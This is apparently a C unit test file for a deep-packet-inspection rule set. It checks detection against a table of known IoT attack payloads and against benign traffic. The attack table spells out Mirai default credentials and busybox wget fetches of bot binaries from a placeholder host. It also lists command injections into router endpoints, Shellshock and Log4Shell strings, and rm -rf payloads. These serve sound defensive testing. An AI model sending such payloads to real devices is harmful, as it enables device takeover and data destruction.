// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* nf/dpi.rules: every rule hits what it is for, and none what things say every day. */
#include "nf/dpi.h"

static const char path[] = "nf/dpi.rules";

/* ---- every rule ---- */

static uint16_t port_of(const struct rules *r, const struct rules_ports *ports, uint16_t other)
{
	return ports->count ? r->ranges[ports->first].low : other;
}

/* A packet with all of a rule's contents, each at its offset or behind the one before. */
static struct frame packet_for(const struct rules *r, const struct rules_rule *rule)
{
	struct packet p = { .protocol = rule->protocol,
			    .flags = TCP_ACK,
			    .sport = port_of(r, &rule->source, 40000),
			    .dport = port_of(r, &rule->destination, 40001) };
	char payload[1024];
	uint32_t at = 0;

	memset(payload, '.', sizeof(payload));
	for (uint32_t i = 0; i < rule->count; i++) {
		const struct rules_content *content = &r->contents[rule->first + i];

		at = at > content->offset ? at : content->offset;
		assert_true(at + content->length < sizeof(payload));
		memcpy(payload + at, r->bytes + content->first, content->length);
		at += content->length + (i + 1 < rule->count);
	}
	return with_payload(&p, payload, at);
}

static void complain(void *arg, uint32_t line, uint32_t column, const char *text)
{
	fail_msg("%s:%u:%u: %s", path, line, column, text);
}

static void test_every_rule(void **state)
{
	const char *text = dpi_read(path);
	struct rules rules;
	struct alone a;

	assert_int_equal(rules_parse(&rules, text, strlen(text), complain, NULL), 0);
	dpi_open(&a, text);
	for (uint32_t i = 0; i < rules.rule_count; i++) {
		struct frame f = packet_for(&rules, &rules.rules[i]), without = f;
		uint32_t length = rules.contents[rules.rules[i].first].length;

		dpi_forget(&a);
		/* Without the first content's first byte it is none. */
		without.data[f.l4 + (f.protocol == IPPROTO_TCP ? 20 : 8)] = '.';
		assert_true(length > 1);
		if (alone_run(&a, &without) != CLEAN)
			fail_msg("rule %u hits what it is not for", rules.rules[i].sid);
		if (alone_run(&a, &f) != ATTACK || dpi_hits(&a, rules.rules[i].sid) != 1)
			fail_msg("rule %u does not hit", rules.rules[i].sid);
	}
	print_message("%u rules, %u contents\n", rules.rule_count, rules.content_count);
	assert_true(rules.rule_count >= 20);
	alone_close(&a);
	rules_free(&rules);
}

/* ---- as they are seen in the wild ---- */

#define GET   "GET "
#define TO    " HTTP/1.1\r\nHost: 192.0.2.1\r\n"
#define AGENT "User-Agent: Hello, World\r\n\r\n"

static const struct {
	uint16_t port;
	const char *payload;
	uint32_t sid;
} attacks[] = {
	{ 23, "root\r\nxc3511\r\n", 1000001 },
	{ 2323, "root\r\n7ujMko0vizxv\r\n", 1000002 },
	{ 23, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n", 1000020 },
	{ 23, "/bin/busybox wget http://198.51.100.7:80/bins/mirai.arm -O - > dvrHelper",
	  1000024 },
	{ 8080,
	  "POST /GponForm/diag_Form?images/" TO AGENT
	  "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox`;&ipv=0",
	  1000031 },
	{ 80,
	  GET
	  "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;&curpath=/" TO AGENT,
	  1000032 },
	{ 80,
	  "POST /HNAP1/" TO
	  "SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf *`\r\n",
	  1000033 },
	{ 60001, GET "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws" TO AGENT,
	  1000034 },
	{ 80,
	  GET "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array"
	      "&vars[0]=shell_exec" TO,
	  1000035 },
	{ 80, "GET /" TO "User-Agent: () { :; }; /bin/bash -c \"id\"\r\n\r\n", 1000040 },
	{ 80, "GET /" TO "User-Agent: () { :;};echo\r\n\r\n", 1000040 },
	{ 8983, "GET /solr/?x=${JNDI:ldap://198.51.100.7/a}" TO, 1000041 },
	{ 37215,
	  "POST /ctrlt/DeviceUpgrade_1" TO
	  "\r\n<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7)</NewStatusURL>",
	  1000050 },
	{ 7547, "<NewNTPServer1>`cd /tmp;tftp -l 3 -r 1 -g 198.51.100.7`</NewNTPServer1>",
	  1000051 },
	{ 80, GET "/cgi?x=cd%20/tmp;wget+http://198.51.100.7/b;chmod+777+b;./b" TO, 1000030 },
};

static void test_attacks(void **state)
{
	struct alone a;

	dpi_open(&a, dpi_read(path));
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const struct packet p = { .protocol = IPPROTO_TCP,
					  .flags = TCP_ACK,
					  .sport = 3000 + i,
					  .dport = attacks[i].port };
		uint64_t before = dpi_hits(&a, attacks[i].sid);

		if (dpi_run(&a, &p, attacks[i].payload) != ATTACK ||
		    dpi_hits(&a, attacks[i].sid) != before + 1)
			fail_msg("no hit of %u: %s", attacks[i].sid, attacks[i].payload);
	}
	alone_close(&a);
}

/* ---- what is none ---- */

#define TCP_TO(PORT)   .protocol = IPPROTO_TCP, .flags = TCP_ACK, .dport = (PORT)
#define TCP_FROM(PORT) .protocol = IPPROTO_TCP, .flags = TCP_ACK, .sport = (PORT)

static const struct {
	struct packet packet;
	const char *payload;
} benign[] = {
	{ { TCP_TO(1883) }, "\x10\x1c\0\x04MQTT" },
	{ { TCP_TO(1883) }, "\x30\x2bhome/livingroom/temperature{\"celsius\":21.5}" },
	{ { TCP_TO(80) },
	  "GET /index.html" TO "User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n" },
	{ { TCP_TO(80) }, "GET /shell.html" TO "\r\n" },
	{ { TCP_TO(80) },
	  "POST /HNAP1/" TO
	  "SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"\r\n\r\n" },
	{ { TCP_FROM(80) },
	  "HTTP/1.1 200 OK\r\n\r\nRun wget http://example.org/a in /tmp, then chmod 777 a" },
	{ { TCP_FROM(80) }, "HTTP/1.1 200 OK\r\n\r\nfunction() { return; }" },
	{ { .dport = 53 }, "\x12\x34\x01\x20" },
	{ { .dport = 53413 }, "AAAAAAAA" },
	{ { .dport = 5683 }, "\x44\x01\x84\x9e\x51\x55\x77\xe8\xb2hi\x04main" },
	{ { TCP_FROM(22) }, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n" },
	{ { TCP_FROM(23) },
	  "\xff\xfd\x01\xff\xfd\x1f\r\nBusyBox v1.36.1 built-in shell (ash)\r\n# " },
	{ { TCP_TO(23) }, "admin\r\na-good-password\r\nls /tmp\r\n" },
	{ { TCP_TO(7547) }, "POST /" TO "\r\n<NewNTPServer1>pool.ntp.org</NewNTPServer1>" },
	{ { TCP_TO(443) }, "\x16\x03\x01\x02" },
};

static void test_benign(void **state)
{
	struct alone a;

	dpi_open(&a, dpi_read(path));
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++)
		if (dpi_run(&a, &benign[i].packet, benign[i].payload) != CLEAN)
			fail_msg("a hit: %s", benign[i].payload);
	assert_int_equal(dpi_flows(&a, NULL, NULL), 0);
	alone_close(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_every_rule),
		cmocka_unit_test(test_attacks),
		cmocka_unit_test(test_benign),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
